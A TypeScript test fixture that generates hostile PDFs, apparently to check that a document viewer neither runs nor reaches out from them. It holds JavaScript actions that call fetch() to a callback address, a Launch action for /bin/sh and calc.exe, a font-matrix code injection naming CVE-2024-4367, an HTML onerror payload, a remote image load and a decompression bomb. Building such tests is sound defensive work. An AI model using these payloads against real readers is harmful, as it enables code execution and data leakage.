/** PDFs that want something of who opens them, or that nobody would draw. Each says where it would report to, so that a report is noticed. */
import PDFDocument from 'pdfkit';
import { packed, pdfFile, saying } from '../builders/pdf-file.ts';

/** What a file would do if anything in it ran: mark every frame, and call home. */
const payload = (home: string): string => `globalThis.__PWNED = 1; try { app.alert(1); } catch (e) {} fetch("${home}/js");`;

export interface HostilePdf {
  readonly title: string;
  readonly bytes: Uint8Array;
  /** Words that its first page shows, or why it can't be shown; `either` where the machine's speed decides: that it was ended, or how many pages it has. */
  readonly shows: { readonly text: string } | { readonly refused: string } | { readonly either: readonly [string, string] };
  readonly pages?: number;
}

const broken = 'It is damaged, or no PDF at all.';

/** A Type 1 font whose matrix holds code instead of a number (CVE-2024-4367). */
function fontMatrix(code: string): Uint8Array {
  const clear = `%!PS-AdobeFont-1.0: Evil\n11 dict begin\n/FontName /Evil def\n/PaintType 0 def\n/FontType 1 def\n/FontMatrix [0.001 0 0 0.001 0 (0\\); ${code.replace(/[\\()]/g, '\\$&')} //)] readonly def\n/Encoding StandardEncoding def\n/FontBBox {0 0 1000 1000} readonly def\ncurrentdict end\ncurrentfile eexec\n`;
  return Buffer.concat([Buffer.from(`<< /Length ${clear.length} /Length1 ${clear.length} /Length2 0 /Length3 0 >>\nstream\n${clear}`), Buffer.from('\nendstream')]);
}

async function encrypted(): Promise<Uint8Array> {
  const document = new PDFDocument({ userPassword: 'secret', ownerPassword: 'owner', pdfVersion: '1.7' });
  const parts: Buffer[] = [];
  document.on('data', (part: Buffer) => parts.push(part));
  const ended = new Promise((resolve) => { document.on('end', resolve); });
  document.text('Behind a password.');
  document.end();
  await ended;
  return Buffer.concat(parts);
}

/** All of them. `home`: the address that none may reach. */
export async function hostilePdfs(home: string): Promise<readonly HostilePdf[]> {
  const js = payload(home).replace(/[\\()]/g, '\\$&');
  return [
    { title: 'JavaScript when opened', bytes: pdfFile({ pages: [saying('Script one.')], catalog: `/OpenAction << /S /JavaScript /JS (${js}) >> /AA << /WC << /S /JavaScript /JS (${js}) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${js}) >>] >> >>`, page: `/AA << /O << /S /JavaScript /JS (${js}) >> >>` }), shows: { text: 'Script one.' } },
    { title: 'Launches a program', bytes: pdfFile({ pages: [saying('Launch two.')], catalog: '/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (calc.exe) >> >>' }), shows: { text: 'Launch two.' } },
    { title: 'Goes to an address', bytes: pdfFile({ pages: [saying('Address three.')], catalog: `/OpenAction << /S /URI /URI (${home}/open) >>`, page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [50 690 400 730] /A << /S /URI /URI (${home}/link) >> >>]` }), shows: { text: 'Address three.' } },
    { title: 'Embeds a page', bytes: pdfFile({ pages: [saying(`<img src=${home}/img onerror=globalThis.__PWNED=1>`, 9)], catalog: '/Names << /EmbeddedFiles << /Names [(a.html) << /Type /Filespec /F (a.html) /EF << /F 10 0 R >> >>] >> >>', objects: [packed(Buffer.from(`<script>${payload(home)}</script>`), '/Type /EmbeddedFile')] }), shows: { text: '<img src=' } },
    { title: 'Code in a font', bytes: pdfFile({ pages: ['BT /F2 24 Tf 60 700 Td (Font five.) Tj ET'], resources: '', page: '/Resources << /Font << /F2 10 0 R >> >>', objects: ['<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FirstChar 32 /LastChar 126 /FontDescriptor 11 0 R >>', '<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile 12 0 R >>', fontMatrix(payload(home))] }), shows: { text: 'Font five.' } },
    { title: 'Code in a form', bytes: pdfFile({ pages: [saying('Form six.')], catalog: `/AcroForm << /NeedAppearances true /Fields [10 0 R] /CO [10 0 R] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${js}</script></xdp:xdp>) >>`, page: '/Annots [10 0 R]', objects: [`<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (1) /Rect [50 600 300 640] /AA << /C << /S /JavaScript /JS (${js}) >> /K << /S /JavaScript /JS (${js}) >> >> >>`] }), shows: { text: 'Form six.' } },
    { title: 'Loads from elsewhere', bytes: pdfFile({ pages: [`${saying('Picture seven.')} q 100 0 0 100 60 500 cm /I Do Q`], resources: '/XObject << /I 10 0 R >>', objects: [`<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${home}/stream) >> /Length 0 >>\nstream\n\nendstream`] }), shows: { text: 'Picture seven.' } },
    { title: 'No PDF', bytes: Buffer.from(`<html><script>${payload(home)}</script>`), shows: { refused: broken } },
    { title: 'Cut in the middle', bytes: pdfFile().subarray(0, 90), shows: { refused: broken } },
    { title: 'Behind a password', bytes: await encrypted(), shows: { refused: 'It is encrypted, and no password is asked for here.' } },
    { title: 'A page tree that holds itself', bytes: pdfFile({ tree: '<< /Type /Pages /Count 3 /Kids [2 0 R 2 0 R 2 0 R] >>' }), shows: { refused: broken } },
    { title: 'Without pages', bytes: pdfFile({ pages: [] }), shows: { refused: 'It has no pages.' } },
    { title: 'As long as a street', bytes: pdfFile({ pages: [saying('Thread thirteen.')], mediaBox: '[0 0 1400000 800]' }), shows: { text: 'Thread thirteen.' } },
    { title: 'Two thousand pages', bytes: pdfFile({ pages: Array.from({ length: 2_000 }, (_, index) => saying(`Leaf number ${index + 1}.`)) }), shows: { text: 'Leaf number 1.' }, pages: 2_000 },
    { title: 'Blows up when unpacked', bytes: pdfFile({ pages: [packed(Buffer.concat([Buffer.from(`${saying('Bomb fifteen.')} `), Buffer.alloc(120_000_000, '0 0 m ')]))] }), shows: { either: ['Reading it took longer than ten seconds and was ended.', 'of 1'] } },
  ];
}
